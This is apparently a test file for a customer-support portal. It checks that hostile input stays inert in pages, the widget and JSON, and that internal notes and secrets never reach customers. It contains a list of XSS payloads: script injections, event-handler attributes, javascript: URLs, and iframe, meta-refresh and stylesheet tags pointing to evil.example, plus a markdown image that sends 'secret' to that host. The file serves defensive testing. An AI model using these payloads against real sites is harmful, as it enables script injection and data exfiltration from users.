import { strict as assert } from 'node:assert';
import { openPage } from '../support/browser.js';
import { drafting } from '../support/customer-threads.js';
import { operator, useHosts } from '../support/started-host.js';
import { customer, usePortals } from './served-portal.js';

/** What people send to make a page do something. Each would raise a dialog, ask elsewhere, or be refused aloud. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '![x](https://evil.example/?d=secret)',
  'javascript:alert(1)',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe src="https://evil.example"></iframe>',
  '</script><script>alert(1)</script>',
  '$& $1 $` __CONFIG__',
];
const all = hostile.join(' ');
const page =
  '<!doctype html><html lang="en"><head><title>Shop</title><script src="/help/widget.js" async></script></head><body><cairnloop-support></cairnloop-support></body></html>';

describe('hostile text in the portal', () => {
  const { startHost } = useHosts();
  const serve = usePortals();

  it('PT3 stays text in page, widget and JSON, with no request elsewhere and no violation of the content policy', async () => {
    const host = await startHost({}, { worker: false });
    const { conversations } = host.cairnloop;
    const id = all.slice(0, 400);
    const named = { id: 'op', name: all.slice(0, 400) };
    const conversation = await conversations.open({ actorId: id, subject: all.slice(0, 900), message: all });
    await conversations.reply(conversation.id, {
      content: `${all} \u202e\u2066 ${'\u0301'.repeat(200)}`,
      actor: named,
    });
    await conversations.resolve(conversation.id, { resolvedBy: operator });
    const strings = { title: all, newConversation: all, support: all, openSupport: 'Open it' };
    const portal = await serve(host, { customer: () => ({ id, name: all }), strings }, page);
    const { page: shown, context, complaints } = await openPage(portal.origin);
    for (const path of [
      '/',
      '/new',
      `/c/${conversation.id}`,
      `/?cursor=${encodeURIComponent(all)}`,
      `/${encodeURIComponent(all)}`,
    ]) {
      await shown.goto(portal.url(path));
      assert.equal(
        await shown.locator('img, iframe, meta[http-equiv], script:not([src]), [onmouseover], [onfocus]').count(),
        0,
        path,
      );
      assert.equal(await shown.locator('script').count(), 1, path);
    }
    await shown.goto(portal.url(`/c/${conversation.id}`));
    await shown
      .getByText(hostile[0] ?? '', { exact: false })
      .first()
      .waitFor();
    await shown.goto(portal.origin);
    await shown.getByRole('button', { name: /Open it/ }).click();
    await shown.locator('.conversation').click();
    await shown.locator('.message').nth(1).waitFor();
    assert.equal(await shown.locator('img, iframe, [onmouseover], .panel script').count(), 0);
    assert.deepEqual(
      complaints.filter((one) => !/status of 404/.test(one)),
      [],
    );
    await context.close();

    const json = await portal.api(`/conversations/${conversation.id}`);
    assert.match(json.headers.get('content-type') ?? '', /^application\/json/);
    assert.equal(json.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(json.headers.get('cache-control'), 'no-store');
    assert.equal((json.json as { messages: { content: string }[] }).messages[0]?.content, all);
  });

  it('PT3 no page, JSON or widget contains a note, a draft, a system message or the id of an operator', async () => {
    const host = await drafting(startHost);
    const { id, secrets } = await host.everything(customer.id);
    const portal = await serve(host);
    for (const path of ['/', `/c/${id}`, '/api/conversations', `/api/conversations/${id}`, '/widget.js']) {
      const { status, text } = await portal.get(path);
      assert.equal(status, 200);
      for (const secret of secrets) assert.ok(!text.includes(secret), `${path} holds ${secret}`);
    }
    assert.match((await portal.get(`/c/${id}`)).text, /Approved words/);
  });
});
